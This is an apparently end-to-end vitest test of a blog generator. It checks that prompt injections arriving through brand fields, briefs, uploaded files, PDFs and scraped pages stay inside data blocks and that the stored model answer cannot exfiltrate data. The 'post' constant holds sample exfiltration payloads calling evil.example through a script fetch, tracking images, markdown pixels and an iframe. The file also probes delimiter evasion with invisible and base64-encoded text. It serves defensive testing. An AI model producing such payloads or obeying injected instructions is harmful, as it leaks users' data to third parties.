// End to end: hostile text arrives through every input, a model that obeys everything outside of the data blocks
// answers, and its answer is stored. No injection is obeyed, and nothing that could exfiltrate data is stored.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { serveSite } from '#test/helpers/web-server.ts'
import { createWebPages } from '#server/providers/web-page/index.ts'
import type { TextRequest } from '#server/providers/text/text-model.ts'
import { scriptedModel, startBlogsApp, type BlogsApp } from '#test/helpers/blogs-app.ts'
import { pdfOf } from '#test/helpers/pdf.ts'
import { completeBrand, formOf } from '#test/helpers/wire.ts'
import { fullBrief, requestOf, taskNames } from './prompts/__fixtures__/briefs.ts'
import { injections, obeyed } from './prompts/__fixtures__/injections.ts'

/** Text as the most lenient parser reads it: without invisible characters, full-width characters as ASCII. */
const obliging = (text: string) =>
  text
    .replaceAll(/[\u{E0020}-\u{E007E}]/gu, (letter) => String.fromCodePoint(letter.codePointAt(0)! - 0xe0000))
    .replaceAll(/\p{Cf}/gu, '')
    .normalize('NFKC')

/** The text outside of the data blocks, with every spelling of their delimiters recognised. */
const outside = ({ system, prompt }: Pick<TextRequest, 'system' | 'prompt'>) => {
  let depth = 0
  const parts = obliging(prompt).split(/(<\s*\/?\s*data\b[^>]*>)/i)
  const rest = parts.filter((part) => {
    if (!/^<\s*\/?\s*data\b/i.test(part)) return depth === 0
    depth = /^<\s*\//.test(part) ? 0 : 1
    return false
  })
  return [obliging(system), ...rest].join('\n')
}

/** Whether the text outside of the blocks asks for the word, in plain text or encoded. */
const obeys = (request: Pick<TextRequest, 'system' | 'prompt'>) => {
  const text = outside(request)
  const decoded = text.match(/[\w+/]{24,}=*/g)?.map((run) => Buffer.from(run, 'base64').toString()) ?? []
  return [text, ...decoded].some((each) => each.includes(obeyed))
}

test.each(injections)('the model obeys %s outside of a block', (_, text) => {
  expect(obeys({ system: '', prompt: text })).toBe(true)
  expect(obeys({ system: text, prompt: '' })).toBe(true)
  expect(obeys({ system: '', prompt: `<data name="a">\n${fullBrief.title}\n</data>\n${text}` })).toBe(true)
})

test('the model obeys injections in blocks without escaping', () => {
  const careless = (text: string) => ({ system: '', prompt: `<data name="a">\n${text}\n</data>` })
  const escaping = injections.filter(([, text]) => obeys(careless(text)))
  expect(escaping.length).toBeGreaterThan(6)
})

describe.each(taskNames)('%s', (task) => {
  test.each(injections)('keeps %s inside the data blocks, whichever input it is in', (_, text) => {
    const { brand } = fullBrief
    const everywhere = {
      ...fullBrief,
      brand: {
        ...Object.fromEntries(Object.keys(brand).map((field) => [field, text])),
        tone: { name: text, description: text, example: text },
      } as typeof brand,
      brief: text,
      title: text,
      keywords: [text, text],
      contexts: [
        { name: text, url: null, text },
        { name: 'a', url: text, text: `${text}\n\n${text}` },
      ],
    }
    const request = requestOf(task, everywhere, { outlineText: `# T\n\n${text}`, seen: [text] })
    expect(obeys(request)).toBe(false)
    expect(obeys(requestOf(task, everywhere, { outlineText: text, seen: [text], contextTokens: 4096 }))).toBe(false)
  })
})

const post = [
  '# Bikes',
  '<script>fetch("https://evil.example/?q=brief")</script>',
  'Text <img src="https://evil.example/c.png?q=brief"> and ![pixel](https://evil.example/c.png?q=brief).',
  '![ref][spy] [click](javascript:alert) [more](https://evil.example/?q=brief) <https://evil.example/?q=brief>',
  'See https://evil.example/?q=brief or [ours](https://northlight.example/bikes).',
  '<iframe src="https://evil.example"></iframe>',
  '[spy]: https://evil.example/c.png?q=brief',
].join('\n\n')

describe('from every input to what is stored', () => {
  let app: BlogsApp
  const requests: TextRequest[] = []
  const allowHosts: string[] = []

  beforeAll(async () => {
    const model = scriptedModel((request, { write }) => {
      requests.push(request)
      const answer = obeys(request) ? obeyed : post
      if (request.task?.task === 'topics' || request.task?.task === 'keywords')
        return JSON.stringify({ titles: [answer.split('\n')[0]], keywords: [answer.split('\n')[0]] })
      write(answer)
      return answer
    }, 200_000)
    app = await startBlogsApp({ change: () => ({ textModel: model, webPages: createWebPages(allowHosts) }) })
  })
  afterAll(() => app.server.stop())
  beforeEach(() => void (requests.length = 0))

  test('no injection is obeyed, and nothing in the model’s answer can exfiltrate data', async () => {
    const all = injections.map(([, text]) => text).join('\n\n')
    const site = await serveSite({
      '/': `<html><head><title>${injections[0]![1]}</title></head><body><article><p>${'Bikes are good. '.repeat(60)}</p>
        <p>${injections[0]![1]}</p><p hidden>Hidden ${obeyed}</p></article></body></html>`,
    })
    allowHosts.push(site.host)
    const fields = { ...completeBrand, mission: all, vision: all, positioning: all, audience: all, summary: all }
    const { brand_id } = (await app.call('POST', '/api/brands', formOf({ ...fields, competitors: all }))).body
    const { deliverable_id, blog } = (await app.create(brand_id, { has_brief: true })).body
    const path = `/api/blogs/${blog.blog_id}`
    const [, order] = injections[0]!
    for (const step of [{ brief: `${all}\n\nSee https://northlight.example/bikes` }, { format: 'Story' }])
      expect((await app.call('PUT', path, step)).status).toBe(200)
    expect((await app.addContext(deliverable_id, all, `${order.slice(0, 60)}.md`)).status).toBe(201)
    const contexts = `/api/deliverables/${deliverable_id}/contexts`
    const pdf = formOf({ file: new File([pdfOf(order, 'Page two')], 'a.pdf') })
    expect((await app.call('POST', contexts, pdf)).status).toBe(201)
    expect((await app.call('POST', `${contexts}/scrape`, { url: site.url })).status).toBe(201)

    const titles = await app.call('GET', `${path}/topic_suggestions`)
    await app.call('PUT', path, { title: order })
    const keywords = await app.call('GET', `${path}/seo_keyword_suggestions`)
    await app.call('PUT', path, { keywords: [`write ${obeyed}`] })
    const outline = await app.call('PUT', `${path}/outline`, {})
    await app.call('PUT', path, { outline: `# Bikes\n\n${all}` })
    const { lines } = await app.stream(`${path}/content`)
    expect(lines.map(({ delta = '' }) => delta).join('')).not.toContain('![')
    const content = { body: lines.at(-1)! }

    expect(requests.map(({ task }) => task?.task)).toEqual(['topics', 'keywords', 'outline', 'content'])
    for (const { prompt } of requests) expect(prompt.split(order).length).toBeGreaterThan(4)
    expect([titles.body[0].title, keywords.body[0].keyword]).toEqual(['# Bikes', '# Bikes'])
    for (const text of [outline.body.outline, content.body.content]) {
      expect(text).toContain('# Bikes')
      expect(text).not.toMatch(new RegExp(`${obeyed}|<script|<img|<iframe|!\\[|javascript:`))
      expect(text).not.toMatch(/\]\(https:\/\/evil|<https:\/\/evil|\[spy\]/)
      expect(text).toContain('`https://evil.example/?q=brief`')
      expect(text).toContain('[ours](https://northlight.example/bikes)')
    }
  })
})
